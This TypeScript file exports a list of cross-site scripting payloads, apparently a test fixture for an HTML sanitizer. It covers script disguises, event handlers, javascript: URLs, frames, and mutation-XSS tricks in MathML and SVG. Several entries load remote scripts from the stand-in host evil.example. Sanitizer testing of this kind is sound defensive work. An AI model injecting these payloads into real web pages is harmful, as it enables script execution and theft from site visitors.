/**
 * Attacks on HTML sanitizers: OWASP’s filter evasion list, published mutation XSS (mXSS), and our
 * own.
 */

/** Uncleaned, each runs a script, loads or frames a resource, or takes over the page. */
export const xssPayloads: readonly string[] = [
  // Scripts and their disguises.
  ...[
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<ScRiPt>alert(1)</sCrIpT>',
  ],
  ...[
    '<script/xss src="https://evil.example/x.js"></script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
  ],
  ...['<<script>alert(1);//<</script>', '<script src=https://evil.example/x.js?<b>'],
  ...['<script>a=/xss/\nalert(a.source)</script', '</title><script>alert(1)</script>'],
  ...[
    '<script type="module">import "https://evil.example"</script>',
    '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  ],
  // Event handlers.
  ...[
    '<img src=x onerror=alert(1)>',
    '<img src=x:alert(1) onerror=eval(src)>',
    '<img """><script>alert(1)</script>">',
  ],
  ...[
    '<img/src="x"/onerror=alert(1)>',
    '<img src=`x`onerror=alert(1)>',
    '<img src=x onerror\n=\nalert(1)>',
  ],
  ...['<body onload=alert(1)>', '<body background="javascript:alert(1)">'],
  ...['<p onmouseover="alert(1)" onclick=alert(2)>x</p>'],
  ...['<details open ontoggle=alert(1)><summary>x</summary></details>'],
  ...[
    '<video src=x onerror=alert(1)><source onerror=alert(2)></video>',
    '<audio src=x onloadstart=alert(1) autoplay>',
  ],
  ...[
    '<marquee onstart=alert(1)>x</marquee>',
    '<a onfocus=alert(1) autofocus tabindex=1 href=#>x</a>',
  ],
  ...['<div style="animation-name:x" onanimationstart=alert(1)>x</div>'],
  ...['<img src=1 href=1 onerror="javascript:alert(1)"></img>'],
  ...['<table onpointerenter=alert(1)><td background="javascript:alert(1)">x</td></table>'],
  // Script URLs.
  ...['<a href="javascript:alert(1)">x</a>', '<a href=" \u0001javascript:alert(1)">x</a>'],
  ...['<a href="jav\tascript:alert(1)">x</a>', '<a href="java\nscript:alert(1)">x</a>'],
  ...['<a href="jav&#x0A;ascript:alert(1)">x</a>'],
  ...['<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  ...[
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:alert(1)">x</a>',
  ],
  ...['<a href="javascript&colon;alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ...['<a href="vbscript:msgbox(1)">x</a>'],
  ...['<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ...[
    '<a href="view-source:javascript:alert(1)">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
  ],
  ...['<a href="blob:https://evil.example/1">x</a>', '<img src="javascript:alert(1)">'],
  ...['<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ...['<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">'],
  ...['<img srcset="javascript:alert(1) 1x, data:image/svg+xml;base64,PHN2Zz4= 2x" src=x>'],
  ...['<video poster="javascript:alert(1)" src="data:video/mp4,x"></video>'],
  ...['<blockquote cite="javascript:alert(1)">x</blockquote>'],
  ...[
    '<a xlink:href="javascript:alert(1)" ping="https://evil.example" target="_top" download>x</a>',
  ],
  ...['<a href="https://safe.example" href="javascript:alert(1)">x</a>'],
  // Frames, objects, forms, document metadata.
  ...['<iframe src="javascript:alert(1)"></iframe>'],
  ...['<iframe srcdoc="<script>alert(1)</script>" src="https://www.youtube.com/embed/x"></iframe>'],
  ...['<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>'],
  ...['<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>'],
  ...['<iframe src="https://www.youtube.com/embed/../redirect?q=https://evil.example"></iframe>'],
  ...[
    '<iframe onload=alert(1) src="//player.vimeo.com/video/1" title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  ],
  ...['<iframe.x><p title="</iframe><img src=x onerror=alert(1)>">x</p></iframe.x>'],
  ...['<frameset><frame src="javascript:alert(1)"></frameset>'],
  ...['<object data="javascript:alert(1)"><param name=x value=y>x</object>'],
  ...['<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>'],
  ...[
    '<embed src="https://evil.example/x.swf" allowscriptaccess=always>',
    '<applet code="x.class">x</applet>',
  ],
  ...[
    '<form action="javascript:alert(1)"><input type=submit><button formaction="javascript:alert(1)">x</button></form>',
  ],
  ...['<isindex type=image src=1 onerror=alert(1)>'],
  ...['<input type="image" src="javascript:alert(1)" autofocus onfocus=alert(1)>'],
  ...['<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ...[
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<link rel=import href="https://evil.example">',
  ],
  ...['<base href="javascript:alert(1)//"><a href="x">x</a>'],
  ...['<dialog open id=body><form method=dialog name=getElementById>x</form></dialog>'],
  ...[
    '<portal src="https://evil.example"></portal><fencedframe src="https://evil.example"></fencedframe>',
  ],
  // Styles.
  ...['<style>@import "https://evil.example/x.css";</style>'],
  ...[
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
  ],
  ...['<p style="position:fixed;inset:0;z-index:9">x</p>'],
  // Comments and declarations.
  ...[
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
    '<!--><img src=x onerror=alert(1)>-->',
  ],
  ...['<!-- --!><img src=x onerror=alert(1)> -->', '<![CDATA[<script>alert(1)</script>]]>'],
  ...['<?xml version="1.0"?><?php echo 1 ?><! x><script>alert(1)</script>'],
  ...['<?xml-stylesheet href="javascript:alert(1)"?>x'],
  // Foreign content and mutation.
  ...['<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>'],
  ...['<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ...['<svg><animate onbegin=alert(1) attributeName=x></svg>'],
  ...['<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>'],
  ...['<svg><style><img src=x onerror=alert(1)></style></svg>'],
  ...['<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ...[
    '<svg><desc><img src=x onerror=alert(1)></desc><title><style></title><img src=x onerror=alert(2)></style>',
  ],
  ...[
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  ],
  ...['<svg><p><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'],
  ...['<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>'],
  ...[
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  ],
  ...[
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ...['<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ...['<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)">'],
  ...['<math><mi><table><mi><mglyph><style><img src=x onerror=alert(1)></style>'],
  ...['<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>'],
  ...['<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>'],
  ...['<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'],
  ...['<noframes><p id="</noframes><svg onload=alert(1)>"></noframes>'],
  ...['<template><script>alert(1)</script><img src=x onerror=alert(1)></template>'],
  '<template><template></template><img src=x onerror=alert(1)></template>' +
    '<svg><template><style><img src=x onerror=alert(1)>',
  ...['<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'],
  ...['<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
  ...[
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<plaintext><script>alert(1)</script>',
  ],
  ...['<listing>&lt;img src=x onerror=alert(1)&gt;</listing>'],
  ...['&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;script&amp;gt;'],
  ...['<select><option><style></option></select><img src=x onerror=alert(1)></style>'],
  ...['<select><iframe><script>alert(1)</script></iframe></select>'],
  ...[
    '<table><tr><td><svg><desc><td><img src=x onerror=alert(1)></td></desc></svg></td></tr></table>',
  ],
  ...['<a><table><a href="javascript:alert(1)"><svg><style></a><img src=x onerror=alert(1)>'],
  ...[
    '<p><table><template><tr><td><script>alert(1)</script></td></tr></template><p onclick=alert(1)>x',
  ],
  ...['<b><p><b id=x onclick=alert(1)></p></b><svg/onload=alert(1)>'],
  // Attributes that end early, and names from JavaScript’s own objects.
  ...['<p title="&quot;><script>alert(1)</script>">x</p>'],
  ...['<a title="x&quot; onmouseover=&quot;alert(1)" href="/x">x</a>'],
  ...["<img alt='\"><script>alert(1)</script>' src=x>", '<img alt="``onload=alert(1)" src=x>'],
  ...['<img src="x&quot; onerror=&quot;alert(1)">'],
  ...[
    '<p __proto__=x constructor=y toString=z>x</p><constructor>x</constructor><__proto__>x</__proto__>',
  ],
  ...[
    '<a lang="x" xml:lang="y" xmlns="z" is="x-y" slot="s" part="p" id="location" name="cookie" class="c">x</a>',
  ],
  ...['<custom-element onclick=alert(1)><slot>x</slot></custom-element>'],
  ...['<a href="https://x.example/?\u2028<script>alert(1)</script>">x</a>'],
  // MathML that stays, and what parsers made of HTML in it: reports on DOMPurify and the MathML
  // Core specification.
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<math><mtext><option><x><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>">',
  '<math><annotation-xml encoding="text/html"><style><img src onerror=alert(1)></style></annotation-xml></math>',
  '<math><annotation-xml encoding="application/xhtml+xml"><svg><style><img src onerror=alert(1)></style></svg>',
  '<math><semantics><mi>x</mi><annotation-xml><script>alert(1)</script></annotation-xml></semantics></math>',
  '<math href="javascript:alert(1)"><mrow href="javascript:alert(2)"><mi>x</mi></mrow></math>',
  '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><mi><b><style><img src onerror=alert(1)></style></b></mi><mtext><img src onerror=alert(2)></mtext></math>',
  '<math><mi onclick="alert(1)" style="position:fixed" id="x" class="y" tabindex="1">x</mi></math>',
  '<math><mpadded voffset="-9em" lspace="-9em"><mtext>x</mtext></mpadded><mspace width="-9em"></mspace></math>',
  '<svg><foreignObject><math><mtext><style></svg><img src onerror=alert(1)></style></mtext></math></foreignObject>',
  '<svg><title><style></title><img src onerror=alert(1)></style><script>alert(2)</script></svg>',
  '<svg><desc><p><style><!--</style><a title="--><img src onerror=alert(1)>">x</desc></svg>',
  '<math><![CDATA[<img src onerror=alert(1)>]]><mi><![CDATA[</mi></math><script>alert(2)</script>]]></mi></math>',
]
